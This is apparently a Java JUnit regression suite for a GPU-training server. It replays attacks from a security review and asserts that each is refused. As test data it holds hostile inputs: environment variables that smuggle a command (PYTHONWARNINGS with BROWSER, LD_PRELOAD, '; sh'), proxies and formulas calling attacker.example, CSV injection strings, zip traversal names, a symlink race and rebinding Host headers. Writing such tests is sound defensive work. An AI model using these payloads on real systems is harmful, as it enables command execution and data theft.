package io.jenkins.plugins.gputraining.agent.server;

import static io.jenkins.plugins.gputraining.agent.server.ControlAndSecurityTest.ALICE;
import static io.jenkins.plugins.gputraining.agent.server.ControlAndSecurityTest.BOB;
import static io.jenkins.plugins.gputraining.agent.server.ControlAndSecurityTest.ROOT;
import static io.jenkins.plugins.gputraining.agent.server.ControlAndSecurityTest.TOKENS;
import static io.jenkins.plugins.gputraining.agent.server.ReadApiTest.assertError;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.jenkins.plugins.gputraining.model.control.ControlChannel;
import io.jenkins.plugins.gputraining.model.fixtures.RunFixture;
import io.jenkins.plugins.gputraining.model.progress.RunStatus;
import java.io.ByteArrayInputStream;
import java.io.RandomAccessFile;
import java.net.URI;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The bypasses and weaknesses an independent review of {@code serve} found, each attacked again for real: real
 * HTTP against a service in this JVM, real files, real links. Every test fails if its attack works again. The
 * attacks that need real processes and accounts (a job reading the service's secrets, a root service without a job
 * user, interpreter variables running a command) are in {@code JobIsolationIT} and {@code StartRunIT}; the CSP
 * against a real browser in {@code DashboardBrowserIT}. docs/rest-api.md, "Security model", states what each
 * refusal protects.
 */
class SecurityReviewTest {
    @TempDir
    Path work;

    private Path runs;
    private TrainingServer server;
    private Api api;
    private final List<WebSocket> sockets = new ArrayList<>();

    @BeforeEach
    void createRuns() throws Exception {
        runs = Files.createDirectories(work.resolve("runs"));
    }

    @AfterEach
    void stop() {
        sockets.forEach(WebSocket::abort);
        if (server != null) {
            server.close();
        }
    }

    private void serve(final ServerConfig.Builder config) throws Exception {
        if (server != null) {
            server.close();
        }
        server = TrainingServer.start(config.build());
        api = new Api(server);
    }

    private ServerConfig.Builder config() {
        return ServerConfig.builder(runs).port(0).tokens(TOKENS).controlTimeout(Duration.ofMillis(100))
                .streamPollInterval(Duration.ofMillis(50));
    }

    /** A live run with a workspace, like one the service started. */
    private RunFixture running(final String id) throws Exception {
        Path workspace = Files.createDirectories(runs.resolve(id).resolve("workspace"));
        return RunFixture.run(runs, id).status(RunStatus.RUNNING).gpus(0).workingDirectory(workspace.toString())
                .curve(5, 1.0, 2.0, 0.8, 100).output("training " + id + "\n");
    }

    private static List<Path> list(final Path folder) throws Exception {
        if (!Files.isDirectory(folder)) {
            return List.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return files.toList();
        }
    }

    // ---- 1: environment variables that smuggle a command past --allow-command -------------------------------

    @Test
    void requestVariablesCannotRunAnotherCommandPastTheCommandAllowList() throws Exception {
        Path marker = work.resolve("pwned");
        Path browser = Files.writeString(work.resolve("browser.sh"), "#!/bin/sh\ntouch " + marker + "\n");
        browser.toFile().setExecutable(true);
        serve(config().allowCommand(Pattern.compile("python3 train\\.py( .*)?")));

        // The review's attack: Python imports the module a warning category names (antigravity), which opens
        // $BROWSER. Then the other variables the review found passing the old deny-list.
        String attack = "{\"command\": [\"python3\", \"train.py\"], \"env\": {\"PYTHONWARNINGS\": "
                + "\"all:0:antigravity.x:0:0\", \"BROWSER\": \"" + browser + "\"}}";
        assertError(api.post("/api/training", ALICE, attack), 403, "must not set PYTHONWARNINGS");
        Map<String, String> variables = new LinkedHashMap<>();
        variables.put("BROWSER", browser.toString());
        variables.put("HOME", work.toString());
        variables.put("PYTHONPLATLIBDIR", "../../tmp");
        variables.put("NODE_PATH", work.toString());
        variables.put("GCONV_PATH", work.toString());
        variables.put("OPENSSL_CONF", work.resolve("openssl.cnf").toString());
        variables.put("CUDA_INJECTION64_PATH", work.resolve("inject.so").toString());
        variables.put("HF_ENDPOINT", "http://attacker.example");
        variables.put("LD_PRELOAD", work.resolve("x.so").toString());
        variables.put("PYTHONSTARTUP", work.resolve("startup.py").toString());
        variables.put("https_proxy", "http://attacker.example:3128");
        variables.put("TRAINING_SETTING", "harmless-looking");
        for (Map.Entry<String, String> variable : variables.entrySet()) {
            HttpResponse<String> response = api.post("/api/training", ALICE, "{\"command\": [\"python3\", "
                    + "\"train.py\"], \"env\": {\"" + variable.getKey() + "\": \"" + variable.getValue() + "\"}}");
            assertError(response, 403, "must not set " + variable.getKey());
        }
        // An allowed name cannot carry a path or a command either.
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"python3\", \"train.py\"], \"env\": "
                + "{\"CUDA_VISIBLE_DEVICES\": \"" + browser + "\"}}"), 403, "no paths, spaces or shell characters");
        assertError(api.post("/api/training", ALICE, "{\"command\": [\"python3\", \"train.py\"], \"env\": "
                + "{\"WANDB_MODE\": \"offline; sh " + browser + "\"}}"), 403, "value of WANDB_MODE is refused");

        assertThat(list(runs)).as("refused requests start nothing").isEmpty();
        Thread.sleep(200);
        assertThat(marker).doesNotExist();
    }

    @Test
    void theVariableAllowListTakesSafeNamesAndValuesOnly() {
        ObjectNode body = Api.JSON.createObjectNode();
        body.putArray("command").add("python3").add("train.py");
        ObjectNode env = body.putObject("env");
        env.put("CUDA_VISIBLE_DEVICES", "0,1");
        env.put("WANDB_MODE", "offline");
        env.put("OMP_NUM_THREADS", 8);
        env.put("HP_LEARNING_RATE", "3e-4");
        env.put("HP_WARMUP", "-1");

        StartRequest request = StartRequest.parse(body, true, List.of(Pattern.compile("HP_[A-Z_]+")));

        assertThat(request.env()).containsEntry("CUDA_VISIBLE_DEVICES", "0,1").containsEntry("OMP_NUM_THREADS", "8")
                .containsEntry("HP_LEARNING_RATE", "3e-4").containsEntry("HP_WARMUP", "-1").hasSize(5);
        env.removeAll();
        env.put("PYTHONWARNINGS", "all:0:antigravity.x:0:0");
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> StartRequest.parse(body, true,
                        List.of(Pattern.compile(".*"))))
                .as("an operator's catch-all pattern does not let interpreter variables through")
                .hasMessageContaining("refused even when --allow-env lists it");
        assertThat(StartRequest.parse(body, false, List.of()).env())
                .as("without --allow-command any token holder runs any command anyway")
                .containsEntry("PYTHONWARNINGS", "all:0:antigravity.x:0:0");
    }

    // ---- 3: links out of a run: control, owner, data files, workspace, and a link swapped in while reading -----

    @Test
    void aJobsControlFolderLinkedToAnotherRunCannotControlThatRun() throws Exception {
        running("mine").write();
        running("theirs").write();
        RunOwner.write(runs.resolve("mine"), TOKENS.authenticateToken(ALICE).orElseThrow(),
                runs.resolve("mine/workspace").toRealPath());
        RunOwner.write(runs.resolve("theirs"), TOKENS.authenticateToken(BOB).orElseThrow(),
                runs.resolve("theirs/workspace").toRealPath());
        Path theirControl = Files.createDirectories(runs.resolve("theirs").resolve(ControlChannel.FOLDER));
        Files.createSymbolicLink(runs.resolve("mine").resolve(ControlChannel.FOLDER), theirControl);
        serve(config());

        assertError(api.post("/api/training/mine/cancel", ALICE, null), 403, "control/ is a link or not a folder");

        assertThat(list(theirControl)).as("no request reached the other run").isEmpty();
        assertThat(api.post("/api/training/theirs/pause", BOB, null).statusCode()).isEqualTo(202);
        assertThat(list(theirControl)).hasSize(1);
    }

    @Test
    void aJobsOwnerFileLinkedToAnotherRunsGivesItNobodysRun() throws Exception {
        running("mine").write();
        running("theirs").write();
        RunOwner.write(runs.resolve("theirs"), TOKENS.authenticateToken(BOB).orElseThrow(),
                runs.resolve("theirs/workspace").toRealPath());
        Files.createSymbolicLink(runs.resolve("mine").resolve(RunOwner.FILE), runs.resolve("theirs")
                .resolve(RunOwner.FILE));
        serve(config());

        assertError(api.post("/api/training/mine/pause", BOB, null), 403, "started with another token");
        for (com.fasterxml.jackson.databind.JsonNode job : Api.json(api.get("/api/training")).get("jobs")) {
            if ("mine".equals(job.get("job_id").asText())) {
                assertThat(job.get("owner").isNull()).as("the linked owner file is not read: %s", job).isTrue();
            }
        }
        assertThat(api.post("/api/training/mine/pause", ROOT, null).statusCode()).as("admins still may")
                .isEqualTo(202);
    }

    @Test
    void aJobsDataFilesAndWorkspaceLinkedToAnotherRunAreNotServed() throws Exception {
        running("theirs").output("their secret output\n").write();
        Files.writeString(runs.resolve("theirs/workspace/model.pt"), "their weights");
        running("mine").checkpoint(3, "model", "model.pt", 3).write();
        Files.delete(runs.resolve("mine/output.log"));
        Files.createSymbolicLink(runs.resolve("mine/output.log"), runs.resolve("theirs/output.log"));
        serve(config());

        HttpResponse<String> output = api.get("/api/training/mine/download/output.log");
        assertError(output, 403, "resolves outside");
        assertThat(output.body()).doesNotContain("their secret output");
        Files.delete(runs.resolve("mine/events.jsonl"));
        Files.createSymbolicLink(runs.resolve("mine/events.jsonl"), runs.resolve("theirs/events.jsonl"));
        assertError(api.get("/api/training/mine/analytics"), 403, "events.jsonl is a link out of its run directory");

        // The workspace itself replaced by a link to the other run's.
        Files.delete(runs.resolve("mine/events.jsonl"));
        Files.copy(runs.resolve("theirs/events.jsonl"), runs.resolve("mine/events.jsonl"));
        Files.move(runs.resolve("mine/workspace"), runs.resolve("mine/old-workspace"));
        Files.createSymbolicLink(runs.resolve("mine/workspace"), runs.resolve("theirs/workspace"));
        HttpResponse<String> weights = api.get("/api/training/mine/download/checkpoint/model");
        assertError(weights, 403, "resolves outside");
        assertThat(weights.body()).doesNotContain("their weights");
    }

    @Test
    void aFolderSwappedForALinkWhileACheckpointIsReadIsNotFollowed() throws Exception {
        Path secrets = Files.createDirectories(work.resolve("secrets"));
        Files.writeString(secrets.resolve("model.pt"), "SECRET");
        running("racer").checkpoint(3, "model", "ckpt/model.pt", 3).write();
        Path workspace = runs.resolve("racer/workspace");
        Path folder = Files.createDirectories(workspace.resolve("ckpt"));
        Files.writeString(folder.resolve("model.pt"), "public");
        Path aside = workspace.resolve("ckpt.aside");
        serve(config());

        // The job swaps its checkpoint folder for a link to a folder it may not read, and back, as fast as it can,
        // so that the service checks the real folder and then opens through the link.
        AtomicBoolean swapping = new AtomicBoolean(true);
        Thread attacker = new Thread(() -> {
            while (swapping.get()) {
                try {
                    Files.move(folder, aside, StandardCopyOption.ATOMIC_MOVE);
                    Files.createSymbolicLink(folder, secrets);
                    Thread.onSpinWait();
                    Files.delete(folder);
                    Files.move(aside, folder, StandardCopyOption.ATOMIC_MOVE);
                }
                catch (java.io.IOException e) {
                    // A request in the way: go on swapping.
                }
            }
        });
        attacker.start();
        int served = 0;
        try {
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(4);
            while (System.nanoTime() < deadline) {
                HttpResponse<String> response = api.get("/api/training/racer/download/checkpoint/model");
                assertThat(response.body()).as("a download during the swaps").doesNotContain("SECRET");
                if (response.statusCode() == 200) {
                    assertThat(response.body()).isEqualTo("public");
                    served++;
                }
                else {
                    assertThat(response.statusCode()).isIn(403, 404);
                }
            }
        }
        finally {
            swapping.set(false);
            attacker.join(5000);
        }
        assertThat(served).as("the real folder is still served between swaps").isPositive();
    }

    // ---- 4: CSV injection -------------------------------------------------------------------------------------

    @Test
    void csvExportsWriteFormulasAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
        RunFixture.run(runs, "sheet").name(formula).gpus(0).workingDirectory(runs.resolve("sheet").toString())
                .curve(5, 1.0, 2.0, 0.8, 100).exited().endedAt(6).write();
        RunFixture.run(runs, "other").name("@SUM(1+1)*cmd|' /C calc'!A0").gpus(0)
                .workingDirectory(runs.resolve("other").toString()).curve(5, 1.0, 2.0, 0.8, 100).exited()
                .endedAt(6).write();
        serve(config());

        List<String> cells = new ArrayList<>();
        cells.addAll(cells(api.get("/api/training/sheet/analytics?format=csv").body()));
        cells.addAll(cells(api.get("/api/training/analytics/compare?job_ids=sheet,other&format=csv").body()));
        cells.addAll(cells(api.get("/api/training/analytics/summary?format=csv").body()));

        assertThat(cells).contains("'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(cells).as("no cell a spreadsheet would run").noneMatch(cell -> !cell.isEmpty()
                && "=+@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    private static List<String> cells(final String csv) throws Exception {
        List<String> cells = new ArrayList<>();
        CsvMapper mapper = new CsvMapper();
        mapper.enable(com.fasterxml.jackson.dataformat.csv.CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class)
                .with(CsvSchema.emptySchema()).readValues(csv)) {
            rows.forEachRemaining(cells::addAll);
        }
        return cells;
    }

    // ---- 5: zip entry names and size ------------------------------------------------------------------------

    @Test
    void zipEntryNamesCannotClimbOutAndZipsAreCapped() throws Exception {
        Path checkpoint = Files.createDirectories(runs.resolve("zipped/workspace/ckpt/sub"));
        Files.writeString(checkpoint.getParent().resolve("..\\..\\evil.bat"), "echo pwned");
        Files.writeString(checkpoint.getParent().resolve("C:evil.txt"), "drive");
        Files.writeString(checkpoint.resolve("inner\\..\\..\\x.txt"), "inner");
        Files.writeString(checkpoint.resolve("weights.bin"), "weights");
        Path big = Files.createDirectories(runs.resolve("zipped/workspace/big"));
        try (RandomAccessFile sparse = new RandomAccessFile(big.resolve("huge.bin").toFile(), "rw")) {
            sparse.setLength(5_000_000);
        }
        RunFixture.run(runs, "zipped").gpus(0).workingDirectory(runs.resolve("zipped/workspace").toString())
                .curve(5, 1.0, 2.0, 0.8, 100).checkpoint(2, "ckpt", "ckpt", 2).checkpoint(3, "big", "big", 3)
                .exited().endedAt(6).write();
        serve(config().maxZipBytes(1_000_000));

        HttpResponse<byte[]> zip = api.getBytes("/api/training/zipped/download/checkpoint/ckpt");
        assertThat(zip.statusCode()).isEqualTo(200);
        List<String> names = new ArrayList<>();
        try (ZipInputStream entries = new ZipInputStream(new ByteArrayInputStream(zip.body()))) {
            for (ZipEntry entry = entries.getNextEntry(); entry != null; entry = entries.getNextEntry()) {
                names.add(entry.getName());
            }
        }
        assertThat(names).containsExactly("ckpt/", "ckpt/.._.._evil.bat", "ckpt/C_evil.txt", "ckpt/sub/",
                "ckpt/sub/inner_.._.._x.txt", "ckpt/sub/weights.bin");
        assertThat(names).allSatisfy(name -> {
            assertThat(name).startsWith("ckpt/").doesNotContain("\\", ":");
            assertThat(name.split("/")).doesNotContain("..", ".");
        });

        HttpResponse<String> tooBig = api.get("/api/training/zipped/download/checkpoint/big");
        assertError(tooBig, 403, "too big to zip");
        assertThat(tooBig.body()).contains("1000000 bytes");
    }

    // ---- 6: WebSocket clients ---------------------------------------------------------------------------------

    @Test
    void streamClientsAreCappedPerRunAndInAll() throws Exception {
        running("a").write();
        running("b").write();
        serve(config().streamClientsPerRun(2).streamClientsTotal(3));

        connect("a");
        connect("a");
        StreamTest.Recorder third = connect("a");
        assertThat(third.closed.get(10, TimeUnit.SECONDS))
                .isEqualTo("1013 too many stream clients: at most 2 per run; try again later");
        connect("b");
        StreamTest.Recorder fourth = connect("b");
        assertThat(fourth.closed.get(10, TimeUnit.SECONDS))
                .isEqualTo("1013 too many stream clients: at most 3 in all; try again later");
        assertThat(server.streamStats().clients()).isEqualTo(3);

        sockets.get(0).abort();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
        while (server.streamStats().clients() > 2 && System.nanoTime() < deadline) {
            Thread.sleep(20);
        }
        StreamTest.Recorder again = connect("b");
        assertThat(again.closed).as("room again once a client left").isNotDone();
    }

    private StreamTest.Recorder connect(final String id) throws Exception {
        StreamTest.Recorder recorder = new StreamTest.Recorder(true);
        sockets.add(api.client().newWebSocketBuilder().buildAsync(URI.create("ws://127.0.0.1:" + server.port()
                + "/api/training/" + id + "/stream"), recorder).get(10, TimeUnit.SECONDS));
        if (!recorder.closed.isDone()) {
            // Welcome clients get their snapshot first; a refused one is closed instead.
            recorder.messages.poll(2, TimeUnit.SECONDS);
        }
        return recorder;
    }

    // ---- 7: a progress.json pointing checkpoints at another run ------------------------------------------------

    @Test
    void aProgressJsonCannotServeAnotherRunsFilesAsCheckpoints() throws Exception {
        running("victim").write();
        Files.writeString(runs.resolve("victim/workspace/model.pt"), "VICTIM WEIGHTS");
        // The job rewrote its progress.json: its working_dir is the victim's workspace.
        RunFixture.run(runs, "attacker").status(RunStatus.RUNNING).gpus(0)
                .workingDirectory(runs.resolve("victim/workspace").toString()).curve(5, 1.0, 2.0, 0.8, 100)
                .checkpoint(2, "model", "model.pt", 2)
                .checkpoint(3, "absolute", runs.resolve("victim/workspace/model.pt").toString(), 3).write();
        serve(config());

        for (String name : List.of("model", "absolute")) {
            HttpResponse<String> response = api.get("/api/training/attacker/download/checkpoint/" + name);
            assertError(response, 403, "resolves outside the run's directories");
            assertThat(response.body()).doesNotContain("VICTIM WEIGHTS");
        }

        // A run the service started: its checkpoints are read from the working directory the service gave it,
        // whatever the progress.json says.
        Files.createDirectories(runs.resolve("attacker/workspace"));
        RunOwner.write(runs.resolve("attacker"), TOKENS.authenticateToken(ALICE).orElseThrow(),
                runs.resolve("attacker/workspace").toRealPath());
        HttpResponse<String> owned = api.get("/api/training/attacker/download/checkpoint/model");
        assertError(owned, 404, "does not exist");
        assertThat(owned.body()).doesNotContain("VICTIM WEIGHTS");
        Files.writeString(runs.resolve("attacker/workspace/model.pt"), "attacker weights");
        assertThat(api.get("/api/training/attacker/download/checkpoint/model").body()).isEqualTo("attacker weights");
    }

    // ---- 8: CSP -------------------------------------------------------------------------------------------------

    @Test
    void theDashboardMayConnectToItsOwnOriginOnly() throws Exception {
        serve(config());

        String policy = api.get("/api/health").headers().firstValue("Content-Security-Policy").orElseThrow();

        assertThat(policy).contains("connect-src 'self';").doesNotContain("ws:", "wss:", "*");
    }

    // ---- 9: DNS rebinding on a non-loopback bind ------------------------------------------------------------

    @Test
    void aForeignHostIsRefusedOnEveryBindAddress() throws Exception {
        RunFixture.run(runs, "a").gpus(0).workingDirectory(runs.resolve("a").toString()).curve(5, 1.0, 2.0, 0.8, 100)
                .exited().endedAt(6).write();
        serve(ServerConfig.builder(runs).port(0).bindAddress("0.0.0.0"));

        // A page of attacker.example whose name now resolves to this machine: the browser sends its own name.
        String rebound = api.raw("GET /api/training HTTP/1.1\r\nHost: attacker.example:" + server.port()
                + "\r\nConnection: close\r\n\r\n");
        assertThat(rebound).startsWith("HTTP/1.1 403").contains("is not a name this service answers to")
                .doesNotContain("\"job_id\"");
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nHost: gpu1.example\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 403");
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nConnection: close\r\n\r\n")).as("no Host at all")
                .startsWith("HTTP/1.1 4");
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nHost: 10.1.2.3:" + server.port()
                + "\r\nConnection: close\r\n\r\n")).as("an address is no rebinding").startsWith("HTTP/1.1 200");
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nHost: [::1]\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 200");

        serve(ServerConfig.builder(runs).port(0).bindAddress("0.0.0.0").allowHost("GPU1.example"));
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nHost: gpu1.example:" + server.port()
                + "\r\nConnection: close\r\n\r\n")).as("a name the operator listed").startsWith("HTTP/1.1 200");
        assertThat(api.raw("GET /api/training HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n"))
                .startsWith("HTTP/1.1 403");
    }
}
